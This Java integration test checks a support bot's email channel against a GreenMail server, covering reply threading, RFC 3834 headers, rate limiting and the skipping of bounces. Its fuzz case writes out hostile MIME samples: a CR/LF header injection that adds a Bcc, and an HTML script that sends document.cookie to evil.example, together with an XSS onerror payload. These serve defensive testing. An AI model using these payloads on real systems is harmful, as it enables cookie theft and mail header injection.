package org.switchboard.server.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.switchboard.server.it.ItEnvironment.column;
import static org.switchboard.server.it.ItEnvironment.count;
import static org.switchboard.server.it.ItEnvironment.mail;

import com.icegreen.greenmail.user.GreenMailUser;
import jakarta.mail.Address;
import jakarta.mail.MessagingException;
import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.UUID;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The email channel end to end on a real Liberty and MariaDB against GreenMail as the real IMAP/SMTP server:
 * real messages from the shared corpus are delivered into the support mailbox; the bot polls it, answers through
 * the outbox over SMTP with RFC 3834 headers and threading, and never answers auto-replies or bounces.
 */
@ExtendWith(ArquillianExtension.class)
class EmailChannelIT {

    private static final Path CORPUS = Path.of(System.getProperty("it.email.fixtures", "../test-fixtures/email"));
    private static final Duration WAIT = Duration.ofSeconds(120);
    private static final Duration QUIET = Duration.ofSeconds(4);
    private static final Session SESSION = Session.getInstance(new Properties());

    @Deployment(testable = false)
    static WebArchive deployment() {
        return ItEnvironment.war();
    }

    /**
     * The 30 support emails carry 15 distinct Message-IDs (the source projects reuse ids across fixtures): each
     * distinct message is stored once; each gets exactly one threaded reply, unless the loop guard's rate limit held
     * it back (a second message in the same conversation within the period), in which case it is stored with the
     * reason and flagged for a human. The corpus holds several conversations of one sender (sony@chatwoot.com in
     * three spellings): their replies are deferred one period (1 s here) apart, and still all arrive.
     */
    @Test
    void everyRealSupportEmailIsStoredOnceAndAnsweredAtMostOnceWithThreadedRfc3834Replies() throws Exception {
        long lastIdBefore = count("SELECT COALESCE(MAX(id), 0) FROM inbox_entries");
        List<MimeMessage> sent = new ArrayList<>();
        for (Path file : emails("support")) {
            sent.add(deliver(file));
        }
        assertThat(sent).hasSize(30);
        List<String> ids = sent.stream().map(EmailChannelIT::messageId).distinct().toList();
        String newEmails = "SELECT COUNT(*) FROM inbox_entries WHERE channel = 'EMAIL' AND id > " + lastIdBefore;

        await().atMost(WAIT).until(() -> count(newEmails + " AND status = 'DONE'") >= ids.size());
        await().during(QUIET).atMost(QUIET.plusSeconds(20)).until(() -> count(newEmails) == ids.size());
        await().atMost(WAIT).until(() -> replyCount(ids) + count(newEmails + " AND no_reply_reason IS NOT NULL")
                >= ids.size());
        await().during(QUIET).atMost(QUIET.plusSeconds(10)).until(() -> replyCount(ids)
                + count(newEmails + " AND no_reply_reason IS NOT NULL") == ids.size());

        Map<String, MimeMessage> replies = repliesTo(ids);
        assertThat(replyCount(ids)).as("no message answered twice").isEqualTo(replies.size());
        assertThat(replies.size()).as("answered").isGreaterThanOrEqualTo(ids.size() - 2);
        for (MimeMessage original : sent) {
            MimeMessage reply = replies.get(messageId(original));
            if (reply == null) {
                continue;
            }
            assertThat(reply.getHeader("Auto-Submitted", null)).isEqualTo("auto-replied");
            assertThat(reply.getHeader("X-Auto-Response-Suppress", null)).isEqualTo("All");
            assertThat(reply.getHeader("X-Switchboard-Loop", null)).isNotBlank();
            assertThat(reply.getHeader("References", " ")).contains(messageId(original));
            assertThat(reply.getSubject()).startsWith("Re:");
            assertThat(((InternetAddress) reply.getFrom()[0]).getAddress()).isEqualTo(ItEnvironment.SUPPORT_ADDRESS);
            assertThat(reply.getContent().toString()).isNotBlank();
        }
    }

    @Test
    void autoRepliesAndBouncesAreStoredButNeverAnswered() throws Exception {
        List<Path> files = new ArrayList<>(emails("auto-replies"));
        files.addAll(emails("bounces").subList(0, 20));
        List<String> ids = new ArrayList<>();
        for (Path file : files) {
            // The corpus reuses Message-IDs between auto-replies and support emails (chatwoot fixtures); a fresh id
            // keeps this test independent of what the support test already stored under the shared id.
            ids.add(messageId(deliver(withFreshMessageId(file))));
        }

        for (String id : ids) {
            await().atMost(WAIT).until(() -> column("SELECT no_reply_reason FROM inbox_entries WHERE channel = 'EMAIL'"
                    + " AND external_id = ? AND status = 'DONE'", id).size() == 1);
            assertThat(column("SELECT no_reply_reason FROM inbox_entries WHERE channel = 'EMAIL' AND external_id = ?", id))
                    .as("stored without reply: %s", id).singleElement().isNotNull();
        }
        await().during(QUIET).atMost(QUIET.plusSeconds(10)).until(() -> replyCount(ids) == 0);
        assertThat(column("SELECT DISTINCT action FROM audit_entries WHERE action = 'turn.not-answered'")).hasSize(1);
    }

    @Test
    void aCustomerReplyToTheBotsReplyContinuesTheSameConversation() throws Exception {
        MimeMessage first = new MimeMessage(SESSION);
        first.setFrom(new InternetAddress("dana.customer@example.org"));
        first.setRecipients(MimeMessage.RecipientType.TO, ItEnvironment.SUPPORT_ADDRESS);
        first.setSubject("My card does not arrive");
        first.setText("Hello, I ordered a debit card two weeks ago and it has not arrived. What can I do?");
        // the receiving server authenticated dana (MAIL_TRUSTED_AUTHSERV_ID): her address is her verified identity
        first.addHeader("Authentication-Results", EmailSenderAuthenticationIT.TRUSTED
                + "; dkim=pass header.d=example.org; dmarc=pass (p=reject) header.from=example.org");
        first.saveChanges();
        deliver(first);
        String firstId = messageId(first);
        await().atMost(WAIT).until(() -> replyCount(List.of(firstId)) == 1);
        MimeMessage botReply = repliesTo(List.of(firstId)).get(firstId);

        MimeMessage followUp = new MimeMessage(SESSION);
        followUp.setFrom(new InternetAddress("dana.customer@example.org"));
        followUp.setRecipients(MimeMessage.RecipientType.TO, ItEnvironment.SUPPORT_ADDRESS);
        followUp.setSubject(botReply.getSubject());
        followUp.setHeader("In-Reply-To", botReply.getMessageID());
        followUp.setHeader("References", firstId + " " + botReply.getMessageID());
        followUp.setText("Thanks! Could you also tell me how to report it lost?\n\nOn Monday Support wrote:\n> "
                + "earlier answer\n");
        followUp.addHeader("Authentication-Results", EmailSenderAuthenticationIT.TRUSTED
                + "; dkim=pass header.d=example.org; dmarc=pass (p=reject) header.from=example.org");
        followUp.saveChanges();
        deliver(followUp);
        String followUpId = messageId(followUp);
        // The follow-up arrives within the per-conversation rate-limit period, so it is stored, threaded and
        // either answered or held for a human with the reason - never answered twice.
        await().atMost(WAIT).until(() -> column("SELECT status FROM inbox_entries WHERE channel = 'EMAIL'"
                + " AND external_id = ?", followUpId).contains("DONE"));
        // The turn is done before the outbox delivers its reply over SMTP: wait for either outcome.
        await().atMost(WAIT).until(() -> replyCount(List.of(followUpId)) == 1 || column(
                "SELECT no_reply_reason FROM inbox_entries WHERE external_id = ?", followUpId).get(0) != null);
        boolean answered = replyCount(List.of(followUpId)) == 1;
        await().during(QUIET).atMost(QUIET.plusSeconds(10)).until(() -> replyCount(List.of(firstId, followUpId))
                == (answered ? 2 : 1));

        List<String> conversations = column("SELECT DISTINCT m.conversation_id FROM messages m"
                + " JOIN inbox_entries i ON m.inbox_entry_id = i.id WHERE i.channel = 'EMAIL' AND i.sender_id = ?",
                "dana.customer@example.org");
        assertThat(conversations).hasSize(1);
        assertThat(column("SELECT text FROM inbox_entries WHERE channel = 'EMAIL' AND sender_id = ? ORDER BY id",
                "dana.customer@example.org").get(1)).doesNotContain("earlier answer");
    }

    /**
     * Case 8: one automatic reply per sender per period across conversations, without losing a question. Two new
     * conversations of one customer arrive together: both are answered, the second reply after the first one's
     * period (1 s here), and the deferral is audited.
     */
    @Test
    void twoQuestionsOfOneSenderInsideThePeriodAreBothAnsweredTheSecondDeferredAndAudited() throws Exception {
        String sender = "erin.twoquestions@example.org";
        MimeMessage first = plain(sender, "Where is order 1001?", "Hello, order 1001 has not arrived. Where is it?");
        MimeMessage second = plain(sender.toUpperCase(java.util.Locale.ROOT), "Change of address",
                "Hello, how do I change my delivery address for future orders?");
        deliver(first);
        deliver(second);
        List<String> ids = List.of(messageId(first), messageId(second));
        await().atMost(WAIT).until(() -> replyCount(ids) == 2);
        await().during(QUIET).atMost(QUIET.plusSeconds(10)).until(() -> replyCount(ids) == 2);
        assertThat(count("SELECT COUNT(*) FROM audit_entries WHERE action = 'email.rate-deferred' AND subject = ?",
                "email:" + messageId(second))).isEqualTo(1);
        assertThat(column("SELECT no_reply_reason FROM inbox_entries WHERE channel = 'EMAIL' AND external_id IN (?, ?)",
                ids.get(0), ids.get(1))).hasSize(2).containsOnlyNulls();
    }

    /**
     * Case 17, email, end to end: hostile and malformed MIME derived from a real support email (truncated, broken
     * boundary, unknown charset, broken base64 and quoted-printable, CR/LF injection in encoded From and Subject,
     * 3,000 header fields, 60-deep nesting, HTML with script, invalid UTF-8). Each is stored once and its turn
     * finishes (answered, or not answered with a reason; none left pending); no reply carries an injected header;
     * an ordinary email after them is answered. The truncation point is seeded ({@code -Dit.fuzz.seed}, fixed by
     * default, printed on failure).
     */
    @Test
    void hostileMimeIsStoredOnceEachAnsweredOrFlaggedAndTheNextEmailIsStillAnswered() throws Exception {
        long seed = Long.parseLong(System.getProperty("it.fuzz.seed", "20261202").replace("random",
                Long.toString(System.nanoTime())));
        java.util.Random random = new java.util.Random(seed);
        byte[] real = Files.readAllBytes(CORPUS.resolve("support/chatwoot__chatwoot/support.eml"));
        String head = "From: Fuzz Customer <fuzz.customer@example.org>\r\nTo: " + ItEnvironment.SUPPORT_ADDRESS
                + "\r\nSubject: Order question\r\nMIME-Version: 1.0\r\n";
        String text = "Content-Type: text/plain; charset=utf-8\r\n";
        List<String> bodies = new ArrayList<>(List.of(
                new String(real, 0, random.nextInt(real.length), java.nio.charset.StandardCharsets.ISO_8859_1),
                head + "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b2\r\n" + text
                        + "\r\nWhere is my order?\r\n",
                head + "Content-Type: text/plain; charset=x-unknown-42\r\n\r\nO\u00f9 est ma commande ?\r\n",
                head + text + "Content-Transfer-Encoding: base64\r\n\r\nV2hlcmUgaXMgbXkgb3JkZXI/!!*=\r\nQU\r\n",
                head + text + "Content-Transfer-Encoding: quoted-printable\r\n\r\nWhere =ZZ is =C3 my order=\r\n=",
                "From: =?utf-8?Q?Eve=0D=0ABcc:_victim@example.org?= <fuzz.eve@example.org>\r\nTo: "
                        + ItEnvironment.SUPPORT_ADDRESS + "\r\nSubject: =?utf-8?Q?Order=0D=0ABcc:_victim@example.org?="
                        + "\r\nMIME-Version: 1.0\r\n" + text + "\r\nWhere is my order?\r\n",
                head + "X-Many: 1\r\n".repeat(3000) + text + "\r\nWhere is my order?\r\n",
                head + nested(60),
                head + "Content-Type: text/html; charset=utf-8\r\n\r\n<p>Where is my order?</p><script>"
                        + "document.location='http://evil.example/'+document.cookie</script>"
                        + "<img src=x onerror=alert(1)>\r\n",
                head.replace("Order question", "Order \u00c3\u0028\u00ff") + text + "\r\nWhere \u00c3\u0028 is my"
                        + " \u0000 order\u00ff?\r\n"));
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < bodies.size(); i++) {
            String id = "<it-fuzz-" + i + "-" + UUID.randomUUID() + "@it.switchboard.test>";
            ids.add(id);
            byte[] raw = ("Message-ID: " + id + "\r\n" + bodies.get(i))
                    .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
            deliver(new MimeMessage(SESSION, new java.io.ByteArrayInputStream(raw)));
        }
        MimeMessage after = plain("fuzz.after@example.org", "Opening hours", "When are you open on Saturdays?");
        deliver(after);
        String context = "seed " + seed + " (replay with -Dit.fuzz.seed=" + seed + ")";

        await().atMost(WAIT).until(() -> replyCount(List.of(messageId(after))) == 1);
        String entries = "SELECT COUNT(*) FROM inbox_entries WHERE channel = 'EMAIL' AND external_id IN ('"
                + String.join("', '", ids) + "')";
        await().atMost(WAIT).until(() -> count(entries + " AND status = 'DONE'") == bodies.size());
        assertThat(count(entries)).as("each stored once, none half-done: %s", context).isEqualTo(bodies.size());
        await().during(QUIET).atMost(QUIET.plusSeconds(10)).until(() -> count(entries) == bodies.size());
        for (MimeMessage reply : botReplies()) {
            if (ids.contains(inReplyTo(reply))) {
                assertThat(reply.getHeader("Bcc")).as(context).isNull();
                assertThat(reply.getAllRecipients()).as(context).hasSize(1);
                assertThat(reply.getHeader("Subject")).as(context).hasSize(1);
            }
        }
        assertThat(repliesTo(ids).size()).as("no message answered twice: %s", context).isEqualTo(replyCount(ids));
    }

    private static String nested(int depth) {
        StringBuilder open = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            open.append("Content-Type: multipart/mixed; boundary=\"n").append(i).append("\"\r\n\r\n--n").append(i)
                    .append("\r\n");
        }
        open.append("Content-Type: text/plain\r\n\r\nWhere is my order?\r\n");
        for (int i = depth - 1; i >= 0; i--) {
            open.append("--n").append(i).append("--\r\n");
        }
        return open.toString();
    }

    /** @return a plain-text email from {@code from} to the support address */
    static MimeMessage plain(String from, String subject, String body) throws MessagingException {
        MimeMessage m = new MimeMessage(SESSION);
        m.setFrom(new InternetAddress(from));
        m.setRecipients(MimeMessage.RecipientType.TO, ItEnvironment.SUPPORT_ADDRESS);
        m.setSubject(subject);
        m.setText(body);
        m.saveChanges();
        return m;
    }

    private static List<Path> emails(String folder) throws IOException {
        try (Stream<Path> files = Files.walk(CORPUS.resolve(folder))) {
            return files.filter(p -> p.toString().endsWith(".eml")).sorted().toList();
        }
    }

    private static MimeMessage withFreshMessageId(Path file) throws MessagingException {
        try (InputStream in = Files.newInputStream(file)) {
            MimeMessage message = new MimeMessage(SESSION, in);
            message.setHeader("Message-ID", "<" + UUID.randomUUID() + "@it.switchboard.test>");
            return message;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static MimeMessage deliver(Path file) throws MessagingException {
        try (InputStream in = Files.newInputStream(file)) {
            return deliver(new MimeMessage(SESSION, in));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Delivers an email into the support mailbox the bot polls. */
    static MimeMessage deliver(MimeMessage message) throws MessagingException {
        GreenMailUser support = mail().getUserManager().getUser("support");
        support.deliver(message);
        return message;
    }

    private static String messageId(MimeMessage message) {
        try {
            return message.getMessageID();
        } catch (MessagingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** @return how many automatic replies answer one of these Message-IDs (duplicates count twice) */
    private static long replyCount(List<String> ids) throws MessagingException {
        return botReplies().stream().filter(m -> ids.contains(inReplyTo(m))).count();
    }

    /** The bot's automatic replies, keyed by the Message-ID they answer (their In-Reply-To). */
    private static Map<String, MimeMessage> repliesTo(List<String> ids) throws MessagingException {
        return botReplies().stream()
                .filter(m -> ids.contains(inReplyTo(m)))
                .collect(Collectors.toMap(EmailChannelIT::inReplyTo, m -> m, (a, b) -> a));
    }

    private static List<MimeMessage> botReplies() throws MessagingException {
        List<MimeMessage> replies = new ArrayList<>();
        for (MimeMessage m : mail().getReceivedMessages()) {
            String auto = m.getHeader("Auto-Submitted", null);
            if ("auto-replied".equals(auto) && ItEnvironment.SUPPORT_ADDRESS.equals(fromAddress(m))) {
                replies.add(m);
            }
        }
        return replies;
    }

    /** @return the first From address, or "" when absent or unparsable (the corpus holds bounces with empty From) */
    private static String fromAddress(MimeMessage m) {
        try {
            Address[] from = m.getFrom();
            return from != null && from.length > 0 && from[0] instanceof InternetAddress a ? a.getAddress() : "";
        } catch (MessagingException e) {
            return "";
        }
    }

    private static String inReplyTo(MimeMessage m) {
        try {
            String[] values = m.getHeader("In-Reply-To");
            return values == null ? "" : Arrays.stream(values).findFirst().orElse("").trim();
        } catch (MessagingException e) {
            return "";
        }
    }
}
